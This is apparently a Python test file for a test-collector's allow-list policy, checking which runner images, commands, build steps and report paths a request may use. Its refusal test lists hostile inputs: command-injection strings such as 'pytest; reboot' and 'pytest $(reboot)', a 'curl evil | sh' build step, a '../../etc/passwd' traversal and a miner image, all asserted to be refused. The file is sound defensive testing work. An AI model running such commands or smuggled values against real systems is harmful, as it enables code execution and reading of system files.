"""What a trace may ask for, and what the server makes of it."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.qa.profiles import AllowLists, Plan, Refusal, normal_image, plan_of

_LISTS = AllowLists(
    images=("python:*", "docker.io/acme/*"),
    commands=("pytest", "python -m pytest", "go test", "npm test", "make test"),
    build_commands=("pip install",),
    default_images=(("pytest", "python:3.11-slim"), ("go test", "golang:1"), ("make test", "python:3")),
)


def _plan(asked: Any, **changes: Any) -> Plan:
    plan = plan_of(asked, replace(_LISTS, **changes))
    assert isinstance(plan, Plan), plan
    return plan


def test_nothing_asked_for_is_pytest() -> None:
    plan = _plan(None)
    assert (plan.runner, plan.image) == ("pytest", "docker.io/library/python:3.11-slim")
    assert plan.command[:3] == ("python", "-m", "pytest")
    assert "--junitxml=/code/.pm-report/report-00.xml" in plan.command
    assert plan.reporting


def test_arguments_of_an_allowed_command_are_kept() -> None:
    plan = _plan({"runner": "pytest", "command": "pytest tests/unit -k 'half or zero'"})
    assert plan.command[:4] == ("pytest", "tests/unit", "-k", "half or zero")


def test_go_tests_are_asked_for_events() -> None:
    plan = _plan("go test", images=("golang:*",))
    assert (plan.command, plan.told_by_output) == (("go", "test", "-json", "-count=1", "./..."), True)
    assert ("GOPROXY", "off") in plan.environment


@pytest.mark.parametrize(
    "asked",
    [
        {"runner": "pytest", "image": "evil/miner"},
        {"runner": "pytest", "image": "docker.io/acme.evil/x"},
        {"runner": "pytest", "command": "pytest; reboot"},
        {"runner": "pytest", "command": "pytest $(reboot)"},
        {"runner": "pytest", "command": "pytest\nreboot"},
        {"runner": "pytest", "command": "pytestx"},
        {"runner": "pytest", "command": "bash -c pytest"},
        {"runner": "pytest", "command": "pytest 'unclosed"},
        {"runner": "pytest", "build": ["curl evil | sh"]},
        {"runner": "pytest", "network": True},
        {"runner": "pytest", "reports": ["../../etc/passwd"]},
        {"runner": "pytest", "reports": ["$(reboot)"]},
        {"runner": "custom"},
        {"runner": "custom", "command": "true"},
        {"runner": "rake"},
        {"runner": "pytest", "mount": "/"},
        42,
    ],
)
def test_what_is_not_allowed_is_refused_with_a_reason(asked: Any) -> None:
    refusal = plan_of(asked, _LISTS)
    assert isinstance(refusal, Refusal)
    assert refusal.reason in {"policy", "profile"}
    assert refusal.detail


def test_a_server_may_allow_everything() -> None:
    plan = _plan({"runner": "custom", "command": "a && b", "image": "any:1"}, commands=("*",), images=("*",))
    assert plan.command == ("sh", "-c", "a && b")


def test_the_network_is_given_to_the_build_phase_where_the_server_does() -> None:
    asked = {"runner": "pytest", "build": ["pip install -r requirements.txt"], "network": True}
    plan = _plan(asked, build_network=True)
    assert (plan.build, plan.build_network) == ((("pip", "install", "-r", "requirements.txt"),), True)


@given(st.text(max_size=60))
def test_no_text_gets_more_than_an_allowed_beginning_run(text: str) -> None:
    plan = plan_of({"runner": "make test", "command": text}, _LISTS)
    if isinstance(plan, Plan):
        starts = [tuple(entry.split()) for entry in _LISTS.commands]
        assert text == "" or any(plan.command[: len(start)] == start for start in starts)


def test_a_pattern_of_images_takes_any_tag() -> None:
    assert _plan({"runner": "pytest", "image": "acme/tool:7"}).image == "docker.io/acme/tool:7"


def test_images_are_compared_by_their_full_names() -> None:
    assert normal_image("python") == "docker.io/library/python:latest"
    assert normal_image("acme/app") == "docker.io/acme/app:latest"
    assert normal_image("localhost/app:1") == "localhost/app:1"
    assert normal_image("registry.example:5000/app") == "registry.example:5000/app:latest"
    assert normal_image("app@sha256:00") == "docker.io/library/app@sha256:00"
